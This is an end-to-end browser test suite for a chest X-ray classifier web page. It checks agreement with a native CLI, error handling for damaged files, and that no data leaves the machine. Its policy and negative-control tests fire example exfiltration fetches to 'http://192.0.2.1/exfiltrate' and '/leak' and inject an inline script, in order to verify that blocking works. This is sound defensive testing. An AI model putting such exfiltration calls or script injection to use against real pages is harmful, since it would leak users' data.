// End-to-end tests of the served page in Debian's chromium, for both backends.
//
//   node tests/browser/e2e.mjs --url http://127.0.0.1:PORT/ --shared ../shared \
//        --pneumoscope target/release/pneumoscope --model web/models/X.pneumoscope --artifacts DIR \
//        [--python VENV/bin/python]   (with pydicom: DICOM uploads are tested too)
//
// Run by `cargo xtask test`, which serves the page first. Real chest X-rays from the shared
// data are uploaded through `#image-input`; the page's probabilities and Grad-CAM maps are
// compared with the native CLI's; every request of every page and worker is recorded and must
// stay on loopback without a body.

import { execFileSync } from "node:child_process";
import { mkdirSync, readFileSync, readdirSync, statSync, writeFileSync } from "node:fs";
import { dirname, join } from "node:path";
import { check, correlation, harness, iou, launch, nativeGradcam, nativePredict, parseArgs, readNpy, watchNetwork } from "./lib.mjs";

const args = parseArgs(process.argv.slice(2));
for (const k of ["url", "shared", "pneumoscope", "model", "artifacts"]) {
  if (!args[k]) {
    console.error(`missing --${k}`);
    process.exit(2);
  }
}
mkdirSync(args.artifacts, { recursive: true });
const WAIT = { timeout: 10 * 60 * 1000 };
const t = harness();

/** A minimal CSV reader (quoted fields, doubled quotes). */
function parseCsv(text) {
  const rows = [];
  let row = [], field = "", quoted = false;
  for (let i = 0; i < text.length; i++) {
    const c = text[i];
    if (quoted) {
      if (c === '"' && text[i + 1] === '"') { field += '"'; i++; }
      else if (c === '"') quoted = false;
      else field += c;
    } else if (c === '"') quoted = true;
    else if (c === ",") { row.push(field); field = ""; }
    else if (c === "\n" || c === "\r") {
      if (c === "\r" && text[i + 1] === "\n") i++;
      row.push(field); rows.push(row); row = []; field = "";
    } else field += c;
  }
  if (field || row.length) { row.push(field); rows.push(row); }
  return rows;
}

/** Real CXRs: a normal, a bacterial and a viral Kermany image, and a frontal COVID-19 X-ray. */
function testImages(shared) {
  const k = join(shared, "data/kermany/chest_xray/test");
  const pick = (dir, re) => join(k, dir, readdirSync(join(k, dir)).sort().find((f) => re.test(f)));
  const cohen = join(shared, "data/covid-chestxray-dataset");
  const [head, ...rows] = parseCsv(readFileSync(join(cohen, "metadata.csv"), "utf8"));
  const col = (n) => head.indexOf(n);
  const covid = rows.find((r) => r[col("finding")]?.includes("COVID-19") && r[col("view")] === "PA" &&
    r[col("modality")] === "X-ray" && /\.(png|jpe?g)$/i.test(r[col("filename")]));
  return [
    pick("NORMAL", /\.jpe?g$/i),
    pick("PNEUMONIA", /bacteria/),
    pick("PNEUMONIA", /virus/),
    join(cohen, "images", covid[col("filename")]),
  ];
}

const images = testImages(args.shared);
const native = new Map(images.map((f) => [f, nativePredict(args.pneumoscope, args.model, f)]));

/** An adult X-ray of NIH ChestX-ray14 (pneumonia, pathogen unknown) that the native CLI
 * answers with a caution: the model saw few adults with the class it predicts. */
function cautionedImage(shared) {
  const nih = join(shared, "data/nih-chestxray14");
  const [, ...rows] = parseCsv(readFileSync(join(nih, "Data_Entry_2017_v2020.csv"), "utf8"));
  const files = rows.filter((r) => r[1]?.includes("Pneumonia")).filter((_, i) => i % 6 === 0).slice(0, 40)
    .map((r) => join(nih, "images", r[0]));
  for (const f of files) {
    const p = nativePredict(args.pneumoscope, args.model, f);
    if (p.caution) {
      native.set(f, p);
      return f;
    }
  }
  return null;
}
const cautioned = cautionedImage(args.shared);

let onScreen = null; // the file last uploaded to the page

async function upload(page, file) {
  onScreen = file;
  await page.evaluate(() => {
    const r = document.getElementById("result");
    delete r.dataset.top;
    document.getElementById("gradcam").removeAttribute("data-class");
  });
  await page.setInputFiles("#image-input", file);
  await page.waitForSelector("#result[data-top]", { state: "attached", ...WAIT });
  await page.waitForSelector("#gradcam[data-class]", { state: "attached", ...WAIT });
  return readResult(page);
}

/** The page's result, Grad-CAM, out-of-distribution warning and timings, as shown. */
async function readResult(page) {
  return page.evaluate(() => {
    const r = document.getElementById("result");
    const c = document.getElementById("gradcam");
    const warning = document.getElementById("ood-warning");
    const caution = document.getElementById("caution");
    return {
      caution: r.dataset.caution ?? null,
      cautionShown: caution.hidden ? null : caution.textContent,
      top: r.dataset.top,
      probabilities: JSON.parse(r.dataset.probabilities),
      backend: r.dataset.backend,
      ood: JSON.parse(r.dataset.ood),
      oodWarning: warning.hidden ? null : warning.textContent,
      cam: { cls: c.dataset.class, values: JSON.parse(c.dataset.map), width: +c.dataset.width, height: +c.dataset.height },
      lungShare: r.dataset.lungShare ?? null,
      lungReason: r.dataset.lungReason ?? null,
      lungMask: c.dataset.lungMask ?? null,
      lungText: document.getElementById("lung-share").hidden ? null : document.getElementById("lung-share").textContent,
      timings: document.getElementById("timings").textContent,
      timingsJson: JSON.parse(r.dataset.timings),
      wallMs: Number(r.dataset.wallMs),
      callMs: Number(r.dataset.callMs),
    };
  });
}

/** Clears `#error`, runs `action`, and waits for an error message that names `name`. */
async function expectError(page, name, action) {
  await page.evaluate(() => {
    const e = document.getElementById("error");
    e.hidden = true;
    e.textContent = "";
  });
  await action();
  await page.waitForFunction((n) => {
    const e = document.getElementById("error");
    return !e.hidden && e.textContent.includes(n);
  }, name, WAIT);
  return page.textContent("#error");
}

function compareWithNative(file, got, backend, want = native.get(file)) {
  check(got.backend === backend, `backend ${got.backend}, expected ${backend}`);
  check(got.top === want.top, `${file}: top ${got.top} in the page, ${want.top} natively`);
  for (const [c, p] of Object.entries(want.probabilities)) {
    const d = Math.abs(got.probabilities[c] - p);
    check(d <= 1e-3, `${file}: p(${c}) ${got.probabilities[c]} in the page vs ${p} natively (|d| = ${d})`);
  }
  check(want.ood && got.ood, `${file}: no out-of-distribution score (page ${JSON.stringify(got.ood)}, CLI ${JSON.stringify(want.ood)})`);
  const d = Math.abs(got.ood.score - want.ood.score);
  check(d <= 1e-3 * Math.max(1, want.ood.score), `${file}: OOD score ${got.ood.score} in the page vs ${want.ood.score} natively`);
  check(got.ood.flagged === want.ood.flagged, `${file}: flagged ${got.ood.flagged} in the page, ${want.ood.flagged} natively`);
  if ("oodWarning" in got) {
    const warn = got.ood.flagged || Boolean(got.lungReason);
    check(Boolean(got.oodWarning) === warn, `${file}: warning ${JSON.stringify(got.oodWarning)} for flagged = ${got.ood.flagged}, lung reason ${got.lungReason}`);
  }
  if ("caution" in got) {
    check(got.caution === (want.caution ?? null), `${file}: caution ${JSON.stringify(got.caution)} in the page, ${JSON.stringify(want.caution)} natively`);
    check(got.cautionShown === got.caution, `${file}: #caution shows ${JSON.stringify(got.cautionShown)} for ${JSON.stringify(got.caution)}`);
  }
}

function compareCam(file, cam, tag) {
  const want = nativeGradcam(args.pneumoscope, args.model, file, cam.cls, join(args.artifacts, `native-${tag}.png`));
  check(want.shape[0] === cam.height && want.shape[1] === cam.width,
    `map ${cam.height}x${cam.width} in the page, ${want.shape} natively`);
  const r = correlation(cam.values, want.data);
  check(r >= 0.99, `${file}: Grad-CAM (${cam.cls}) correlation with the native map ${r.toFixed(4)} < 0.99`);
  return { r, native: want.line };
}

/**
 * The lung fields in the page equal the native CLI's for the same model file: the mask over the
 * view (IoU ≥ 0.99), the share of the evidence inside them (±0.01) and the sentence that says it.
 * Returns the page's share and the IoU.
 */
function compareLungs(file, got, native) {
  check("lung_share" in native, `${file}: the native CLI found no lung segmenter in ${args.model}`);
  check(got.lungMask && got.lungShare != null, `${file}: the page shows no lung fields (data-lung-share ${got.lungShare})`);
  const want = readNpy(native.lung_mask_npy);
  const mask = Array.from(got.lungMask, Number);
  const overlap = iou(mask, want.data);
  check(overlap >= 0.99, `${file}: lung mask IoU ${overlap.toFixed(4)} between the page and the native CLI (< 0.99)`);
  check(got.lungReason === (native.lung_reason ?? null), `${file}: lung reason ${JSON.stringify(got.lungReason)} in the page, ${JSON.stringify(native.lung_reason)} natively`);
  const share = got.lungShare === "none" ? null : Number(got.lungShare);
  check((share == null) === (native.lung_share == null), `${file}: lung share ${share} in the page, ${native.lung_share} natively`);
  if (share != null) {
    check(Math.abs(share - native.lung_share) <= 0.01, `${file}: lung share ${share} in the page vs ${native.lung_share} natively`);
    const pct = `${Math.round(share * 100)} % of the evidence lies in the lung fields`;
    check(got.lungText?.startsWith(pct), `${file}: #lung-share says ${JSON.stringify(got.lungText)}, expected "${pct}…"`);
  }
  return { share, overlap };
}

/**
 * The library's reported end-to-end time covers the call: within 20 % of the wall time the page
 * measured around it (worker round trip included), no longer than the time from choosing the
 * image to the result drawn, and the sum of its parts within its total.
 */
function checkTimings(got) {
  const t = got.timingsJson;
  for (const k of ["preprocess_ms", "inference_ms", "gradcam_ms", "maps_ms", "total_ms"]) {
    check(Number.isFinite(t[k]) && t[k] >= 0, `timings.${k} = ${t[k]}`);
  }
  check(Array.isArray(t.members) && t.members.length >= 1, `timings.members: ${JSON.stringify(t.members)}`);
  const members = t.members.reduce((s, m) => s + m.inference_ms, 0);
  check(Math.abs(members - t.inference_ms) <= 1, `members' inference ${members} vs ${t.inference_ms}`);
  const parts = t.preprocess_ms + t.inference_ms + t.gradcam_ms + t.maps_ms;
  check(parts <= t.total_ms + 1, `parts ${parts} ms exceed the total ${t.total_ms} ms`);
  const wall = got.wallMs;
  check(Number.isFinite(wall) && wall > 0, `data-wall-ms = ${wall}`);
  check(wall >= t.total_ms, `choose → result ${wall} ms is shorter than the library's total ${t.total_ms} ms`);
  const call = got.callMs;
  check(Number.isFinite(call) && call > 0, `data-call-ms = ${call}`);
  check(Math.abs(t.total_ms - call) <= 0.2 * call,
    `reported total ${t.total_ms.toFixed(0)} ms vs ${call.toFixed(0)} ms measured around the call (more than 20 % apart)`);
}

async function visit(browser, backend) {
  const context = await browser.newContext({ viewport: { width: 1100, height: 1500 } });
  const net = watchNetwork(context);
  const page = await context.newPage();
  const errors = [];
  page.on("pageerror", (e) => errors.push(String(e)));
  page.on("console", (m) => m.type() === "error" && errors.push(m.text()));
  return { context, net, page, errors };
}

async function backendSuite(browser, backend) {
  const { context, net, page, errors } = await visit(browser, backend);
  const t0 = Date.now();
  await t.test(`${backend}: the page loads the default model`, async () => {
    await page.goto(`${args.url}?backend=${backend}`);
    await page.waitForSelector("body[data-model-ready=true]", { state: "attached", ...WAIT });
    const used = await page.evaluate(() => document.body.dataset.backend);
    check(used === backend, `model runs on ${used}, ${backend} was asked for`);
    console.log(`#   ${backend}: model ready after ${((Date.now() - t0) / 1000).toFixed(1)} s — ${await page.textContent("#model-status")}`);
  });
  for (const file of images) {
    const name = file.split("/").slice(-1)[0];
    await t.test(`${backend}: ${name} equals the native CLI (probabilities, top class, Grad-CAM)`, async () => {
      const got = await upload(page, file);
      compareWithNative(file, got, backend);
      check(got.cam.cls === got.top, `the first Grad-CAM explains ${got.cam.cls}, not the top class ${got.top}`);
      const { r, native: line } = compareCam(file, got.cam, `${backend}-${name}`);
      const lungs = compareLungs(file, got, line);
      console.log(`#   ${name}: top ${got.top}, Grad-CAM r = ${r.toFixed(5)}, lung share ${lungs.share?.toFixed(3)} ` +
        `(native ${line.lung_share?.toFixed(3)}, mask IoU ${lungs.overlap.toFixed(4)}); ${got.timings}`);
      checkTimings(got);
    });
  }
  // DICOM decoding is the same Rust code on both backends: tested once, on the CPU backend.
  if (backend === "cpu" && args.python) {
    const dir = join(args.artifacts, "dicom");
    const made = execFileSync(args.python, [join(import.meta.dirname, "../dicom/make_dicom.py"), images[2], dir], { encoding: "utf8" })
      .trim().split("\n");
    for (const name of ["mono1-12bit-window.dcm", "mono2-16bit-rle.dcm"]) {
      const file = made.find((f) => f.endsWith(name));
      await t.test(`${backend}: DICOM ${name} equals the native CLI`, async () => {
        native.set(file, nativePredict(args.pneumoscope, args.model, file));
        const got = await upload(page, file);
        compareWithNative(file, got, backend);
        check(got.top === native.get(images[2]).top, `${name}: ${got.top}, the plain image gives ${native.get(images[2]).top}`);
      });
    }
  }
  // Keyboard use concerns the page, not the backend: tested once, on the CPU backend. Enter on
  // the focused drop zone must activate the file input (the browser's own chooser is not
  // opened: headless Chromium does not reliably report it).
  if (backend === "cpu") await t.test(`${backend}: the keyboard alone opens the image chooser`, async () => {
    await page.evaluate(() => {
      window.__chooserOpened = false;
      document.getElementById("image-input").addEventListener("click", (e) => {
        window.__chooserOpened = true;
        e.preventDefault();
      }, { once: true });
    });
    await page.focus("#drop-zone");
    await page.keyboard.press("Enter");
    check(await page.evaluate(() => window.__chooserOpened), "Enter on the drop zone did not open the file input");
    await page.keyboard.press("Tab");
    const focused = await page.evaluate(() => document.activeElement?.id || document.activeElement?.tagName);
    check(focused === "image-input", `Tab from the drop zone goes to ${focused}, not the file input`);
  });
  await t.test(`${backend}: an adult X-ray of a class rare among adults in training shows the CLI's caution`, async () => {
    check(cautioned, "the native CLI cautions none of 40 adult NIH pneumonia X-rays");
    const got = await upload(page, cautioned);
    compareWithNative(cautioned, got, backend);
    check(/saw only \d+ X-rays of adults/.test(got.cautionShown ?? ""), `#caution shows ${JSON.stringify(got.cautionShown)}`);
  });
  await t.test(`${backend}: a photo is flagged as out of distribution, with the CLI's score`, async () => {
    const photo = join(args.shared, "fixtures/imagenet/chelsea.png");
    native.set(photo, nativePredict(args.pneumoscope, args.model, photo));
    check(native.get(photo).ood.flagged, `the CLI does not flag ${photo}: ${JSON.stringify(native.get(photo).ood)}`);
    const got = await upload(page, photo);
    compareWithNative(photo, got, backend);
    check(/unlike the chest X-rays/.test(got.oodWarning ?? ""), `no warning shown: ${got.oodWarning}`);
    for (const file of images) {
      check(!native.get(file).ood.flagged, `${file}, a chest X-ray, is flagged: ${JSON.stringify(native.get(file).ood)}`);
    }
    await page.screenshot({ path: join(args.artifacts, `${backend}-ood-photo.png`), fullPage: true });
  });
  await t.test(`${backend}: the class selector explains another class`, async () => {
    const file = onScreen;
    const current = await page.evaluate(() => document.getElementById("result").dataset.top);
    const other = current === "viral" ? "bacterial" : "viral";
    await page.evaluate(() => document.getElementById("gradcam").removeAttribute("data-class"));
    await page.selectOption("#cam-class", other);
    await page.waitForSelector(`#gradcam[data-class=${other}]`, { state: "attached", ...WAIT });
    const cam = await page.evaluate(() => {
      const c = document.getElementById("gradcam");
      return { cls: c.dataset.class, values: JSON.parse(c.dataset.map), width: +c.dataset.width, height: +c.dataset.height };
    });
    compareCam(file, cam, `${backend}-class-${other}`);
  });
  await t.test(`${backend}: a screenshot is kept`, async () => {
    await page.screenshot({ path: join(args.artifacts, `page-${backend}.png`), fullPage: true });
    await page.setViewportSize({ width: 390, height: 844 });
    const overflow = await page.evaluate(() => document.documentElement.scrollWidth - window.innerWidth);
    await page.screenshot({ path: join(args.artifacts, `page-${backend}-phone.png`), fullPage: true });
    check(overflow <= 0, `the page is ${overflow}px wider than a phone screen`);
  });
  await t.test(`${backend}: "open a model file" loads an exported model on the same backend and refuses damaged ones`, async () => {
    await page.evaluate(() => delete document.body.dataset.modelReady);
    await page.setInputFiles("#model-file", args.model);
    await page.waitForSelector("body[data-model-ready=true]", { state: "attached", ...WAIT });
    const used = await page.evaluate(() => document.body.dataset.backend);
    check(used === backend, `the second model runs on ${used}, not ${backend}`);
    await page.waitForSelector("#result[data-top]", { state: "attached", ...WAIT });
    // Damaged model files: each is refused with its reason, and the loaded model stays.
    const good = readFileSync(args.model);
    const newer = Buffer.from(good);
    newer.writeUInt32LE(99, 12); // the format version after the 12-byte magic
    const foreign = Buffer.from(good.toString("latin1").replace('"arch": "efficientnet_lite0"', '"arch": "efficientnet_lite9"'), "latin1");
    const flipped = Buffer.from(good);
    flipped[good.length - 100] ^= 0xff;
    const damaged = [
      ["truncated.pneumoscope", good.subarray(0, 100000), "truncated"],
      ["newer.pneumoscope", newer, "format version 99"],
      ["foreign.pneumoscope", foreign, "unknown architecture"],
      ["flipped.pneumoscope", flipped, "checksum"],
      ["photo.pneumoscope", readFileSync(images[0]), "not a Pneumoscope model file"],
    ];
    for (const [name, bytes, reason] of damaged) {
      const file = join(args.artifacts, name);
      writeFileSync(file, bytes);
      const message = await expectError(page, name, () => page.setInputFiles("#model-file", file));
      check(message.includes(reason), `${name}: unclear message: ${message}`);
      const status = await page.textContent("#model-status");
      check(status.includes("still using"), `the previous model should stay in use: ${status}`);
      console.log(`#   error shown: ${message}`);
    }
  });
  await t.test(`${backend}: a broken file shows a clear #error`, async () => {
    const broken = join(args.artifacts, "broken-upload.png");
    writeFileSync(broken, Buffer.from("this is not a PNG, only text with a .png name\n"));
    const message = await expectError(page, "broken-upload.png", () => page.setInputFiles("#image-input", broken));
    check(message.includes("image") && !message.includes("model"), `the message is not about the image: ${message}`);
    check(!(await page.evaluate(() => "top" in document.getElementById("result").dataset)), "a stale result is still shown");
    console.log(`#   error shown: ${message}`);
  });
  // The hostile-file corpus (tests/hostile/make_corpus.py) concerns decoding, the same Rust code
  // on both backends: tested once, on the CPU backend.
  if (backend === "cpu" && args.python) {
    await t.test(`${backend}: the hostile-file corpus: clear errors for broken files, answers for odd ones, no freeze`, async () => {
      const dir = join(args.artifacts, "hostile");
      execFileSync(args.python, [join(import.meta.dirname, "../hostile/make_corpus.py"), images[1], dir]);
      const cases = JSON.parse(readFileSync(join(dir, "expected.json"), "utf8"));
      const plain = await upload(page, join(dir, "plain.png"));
      for (const c of cases) {
        const file = join(dir, c.file);
        const t1 = Date.now();
        if (c.expect === "error") {
          const message = await expectError(page, c.file, () => page.setInputFiles("#image-input", file));
          check(message.toLowerCase().includes((c.reason ?? "").toLowerCase()), `${c.file}: the message does not say "${c.reason}": ${message}`);
          check(!(await page.evaluate(() => "top" in document.getElementById("result").dataset)), `${c.file}: a stale result is shown`);
        } else {
          const got = await upload(page, file);
          if (c.expect === "same") check(got.top === plain.top, `${c.file}: ${got.top}, the plain image gives ${plain.top}`);
        }
        console.log(`#   ${c.file}: ${c.expect} in ${Date.now() - t1} ms`);
      }
      // Still responsive afterwards: a real X-ray gets the CLI's answer.
      compareWithNative(images[0], await upload(page, images[0]), backend);
    });
  }
  await t.test(`${backend}: nothing left the machine and no request carried a body`, async () => {
    const bad = net.violations();
    check(bad.length === 0, `requests that break the rule: ${JSON.stringify(bad)}`);
    const urls = net.requests.map((r) => r.url);
    check(urls.some((u) => u.endsWith(".pneumoscope")), "the watcher did not see the worker's model download");
    check(urls.some((u) => u.endsWith(".wasm")), "the watcher did not see the wasm download");
    console.log(`#   ${net.requests.length} requests, all GET on loopback`);
  });
  await t.test(`${backend}: no image data is kept in browser storage`, async () => {
    const stored = await page.evaluate(async () => ({
      local: localStorage.length,
      session: sessionStorage.length,
      indexedDB: (await indexedDB.databases()).length,
      caches: (await caches.keys()).length,
      cookies: document.cookie.length,
    }));
    check(Object.values(stored).every((n) => n === 0), `something was stored: ${JSON.stringify(stored)}`);
  });
  await t.test(`${backend}: no errors in the console`, async () => {
    // The broken upload is reported in #error, not as an uncaught error.
    check(errors.length === 0, `console errors: ${errors.join(" | ")}`);
  });
  await context.close();
}

async function policySuite(browser) {
  await t.test("the Content-Security-Policy blocks injected scripts and cross-origin requests", async () => {
    const { context, net, page } = await visit(browser, "cpu");
    await page.goto(args.url);
    const outcome = await page.evaluate(async () => {
      const violations = [];
      document.addEventListener("securitypolicyviolation", (e) => violations.push(e.violatedDirective));
      const s = document.createElement("script");
      s.textContent = "window.__injected = true;";
      document.head.append(s);
      let fetched = "not blocked";
      try {
        await fetch("http://192.0.2.1/exfiltrate", { mode: "no-cors" });
      } catch (e) {
        fetched = "blocked";
      }
      const img = new Image();
      const imgLoaded = await new Promise((resolve) => {
        img.onload = () => resolve(true);
        img.onerror = () => resolve(false);
        img.src = "http://192.0.2.1/pixel.png";
      });
      await new Promise((r) => setTimeout(r, 200));
      return { injected: window.__injected === true, fetched, imgLoaded, violations };
    });
    check(!outcome.injected, "an injected inline script ran");
    check(outcome.fetched === "blocked", "a cross-origin fetch was not blocked");
    check(!outcome.imgLoaded, "a cross-origin image loaded");
    for (const d of ["script-src-elem", "connect-src", "img-src"]) {
      check(outcome.violations.includes(d), `no ${d} violation reported: ${outcome.violations}`);
    }
    const foreign = net.requests.filter((r) => r.url.includes("192.0.2.1"));
    check(foreign.every((r) => /csp/i.test(r.failure ?? "")),
      `a foreign request was not stopped by the policy: ${JSON.stringify(foreign)}`);
    await context.close();
  });
}

async function negativeControl(browser) {
  await t.test("the network check catches a leak (negative control)", async () => {
    const { context, net, page } = await visit(browser, "cpu");
    await page.goto(args.url);
    // A same-origin upload with a body (the page's policy allows same-origin requests) ...
    await page.evaluate(() => fetch("leak-check", { method: "POST", body: "pixels" }).catch(() => {}));
    // ... and a request to another machine, from a page without the policy.
    const other = await context.newPage();
    await other.setContent("<p>control</p>");
    await other.evaluate(() => fetch("http://192.0.2.1/leak", { mode: "no-cors" }).catch(() => {}));
    await page.waitForTimeout(500);
    const bad = net.violations();
    check(bad.some((r) => r.bodyBytes > 0), `a body was not caught: ${JSON.stringify(net.requests)}`);
    check(bad.some((r) => r.url.startsWith("http://192.0.2.1/")), `a foreign address was not caught: ${JSON.stringify(net.requests)}`);
    await context.close();
  });
}

async function embedSuite(browser) {
  await t.test("the embeddable <pneumoscope-classifier> element classifies like the CLI", async () => {
    const { context, net, page, errors } = await visit(browser, "cpu");
    await page.goto(`${args.url}embed.html?backend=cpu`);
    await page.setInputFiles("pneumoscope-classifier input[type=file]", images[1]);
    await page.waitForSelector("pneumoscope-classifier[data-top]", { state: "attached", ...WAIT });
    const got = await page.evaluate(() => {
      const el = document.querySelector("pneumoscope-classifier");
      return { top: el.dataset.top, probabilities: JSON.parse(el.dataset.probabilities), backend: el.dataset.backend,
        ood: JSON.parse(el.dataset.ood), model: el.getAttribute("model"),
        event: document.getElementById("last-event").textContent };
    });
    // The example names a model of web/models/ (the light one): the CLI runs that same file.
    check(got.model?.startsWith("models/"), `the example names no shipped model: ${got.model}`);
    const file = join(dirname(args.model), got.model.slice("models/".length));
    compareWithNative(images[1], got, "cpu", nativePredict(args.pneumoscope, file, images[1]));
    check(got.event === `pneumoscope-result: ${got.top} on cpu`, `the page did not get the event: ${got.event}`);
    await page.screenshot({ path: join(args.artifacts, "embed.png"), fullPage: true });
    check(net.violations().length === 0, `requests that break the rule: ${JSON.stringify(net.violations())}`);
    check(errors.length === 0, `console errors: ${errors.join(" | ")}`);
    await context.close();
  });
}

const ARCHS = ["alexnet", "vgg16", "googlenet", "resnet50", "wide_resnet50_2", "resnext50_32x4d", "densenet161",
  "squeezenet1_0", "shufflenet_v2_x1_0", "mobilenet_v2", "mobilenet_v3_large", "mnasnet1_0"];

/**
 * Every architecture of the registry in the page: an untrained f16 model file of each (made by
 * the CLI, marked as such) is opened through "open a model file" and must give the native CLI's
 * probabilities and Grad-CAM on a real X-ray — on the CPU backend for all twelve (WebGPU on
 * SwiftShader is too slow for the large ones), and on WebGPU for the small ones.
 */
async function architectureSuite(browser, backend, archs) {
  const { context, page, errors } = await visit(browser, backend);
  await page.goto(`${args.url}?backend=${backend}`);
  await page.waitForSelector("body[data-model-ready=true]", { state: "attached", ...WAIT });
  const file = images[1];
  for (const arch of archs) {
    await t.test(`${backend}: ${arch} runs in the page and equals the native CLI`, async () => {
      const model = join(args.artifacts, `untrained-${arch}.pneumoscope`);
      // Made afresh by this build of the CLI (no file of an older build is reused).
      execFileSync(args.pneumoscope, ["untrained", "--arch", arch, "--f16", "--out", model], { encoding: "utf8" });
      const t0 = Date.now();
      await page.evaluate(() => {
        delete document.body.dataset.modelReady;
        delete document.getElementById("result").dataset.top;
        document.getElementById("gradcam").removeAttribute("data-class");
      });
      await page.setInputFiles("#model-file", model);
      await page.waitForSelector("body[data-model-ready=true]", { state: "attached", ...WAIT });
      const status = await page.textContent("#model-status");
      check(status.includes(arch) && status.includes("UNTRAINED"), `the status does not name ${arch} as untrained: ${status}`);
      const used = await page.evaluate(() => document.body.dataset.backend);
      check(used === backend, `${arch} runs on ${used}, not ${backend}`);
      const loadMs = Date.now() - t0;
      const t1 = Date.now();
      await page.setInputFiles("#image-input", file);
      await page.waitForSelector("#result[data-top]", { state: "attached", ...WAIT });
      await page.waitForSelector("#gradcam[data-class]", { state: "attached", ...WAIT });
      const got = await readResult(page);
      const want = nativePredict(args.pneumoscope, model, file);
      check(got.top === want.top, `${arch}: top ${got.top} in the page, ${want.top} natively`);
      for (const [c, p] of Object.entries(want.probabilities)) {
        const d = Math.abs(got.probabilities[c] - p);
        check(d <= 1e-3, `${arch}: p(${c}) ${got.probabilities[c]} in the page vs ${p} natively`);
      }
      const cam = nativeGradcam(args.pneumoscope, model, file, got.cam.cls, join(args.artifacts, `native-${backend}-${arch}.png`));
      check(cam.shape[0] === got.cam.height && cam.shape[1] === got.cam.width, `${arch}: map ${got.cam.height}x${got.cam.width} vs ${cam.shape}`);
      const r = correlation(got.cam.values, cam.data);
      check(r >= 0.99, `${arch}: Grad-CAM correlation with the native map ${r.toFixed(4)}`);
      console.log(`#   ${arch} (${(statSync(model).size / 1e6).toFixed(1)} MB): loaded in ${loadMs} ms, classified + Grad-CAM in ${Date.now() - t1} ms, r = ${r.toFixed(5)}`);
    });
  }
  await t.test(`${backend}: no errors in the console while switching architectures`, async () => {
    check(errors.length === 0, `console errors: ${errors.join(" | ")}`);
  });
  await context.close();
}

async function fallbackSuite() {
  const browser = await launch({ webgpu: false });
  try {
    await t.test("without WebGPU, auto falls back to the CPU and says why", async () => {
      const { context, page } = await visit(browser, "auto");
      await page.goto(args.url);
      await page.waitForSelector("body[data-model-ready=true]", { state: "attached", ...WAIT });
      const used = await page.evaluate(() => document.body.dataset.backend);
      check(used === "cpu", `auto chose ${used} without WebGPU`);
      const status = await page.textContent("#model-status");
      check(status.includes("WebGPU unavailable"), `no reason given: ${status}`);
      const got = await upload(page, images[0]);
      compareWithNative(images[0], got, "cpu");
      await context.close();
    });
    await t.test("without WebGPU, a forced webgpu backend gives a clear error", async () => {
      const { context, page } = await visit(browser, "webgpu");
      await page.goto(`${args.url}?backend=webgpu`);
      await page.waitForSelector("#error:not([hidden])", WAIT);
      const message = await page.textContent("#error");
      check(/WebGPU/.test(message), `unclear message: ${message}`);
      console.log(`#   error shown: ${message}`);
      await context.close();
    });
  } finally {
    await browser.close();
  }
}

const browser = await launch({ webgpu: true });
try {
  await t.test("chromium exposes WebGPU with an adapter", async () => {
    const page = await browser.newPage();
    await page.goto(args.url);
    const adapter = await page.evaluate(async () => !!(navigator.gpu && (await navigator.gpu.requestAdapter())));
    await page.close();
    check(adapter, "no WebGPU adapter: the webgpu backend cannot be tested");
  });
  for (const backend of (args.backends || "cpu,webgpu").split(",")) await backendSuite(browser, backend);
  if (!args["skip-archs"]) {
    await architectureSuite(browser, "cpu", ARCHS);
    await architectureSuite(browser, "webgpu", ["squeezenet1_0", "shufflenet_v2_x1_0", "mobilenet_v3_large"]);
  }
  await embedSuite(browser);
  await policySuite(browser);
  await negativeControl(browser);
} finally {
  await browser.close();
}
await fallbackSuite();
const { failed, passed } = t.summary();
process.exit(failed > 0 || passed === 0 ? 1 : 0);
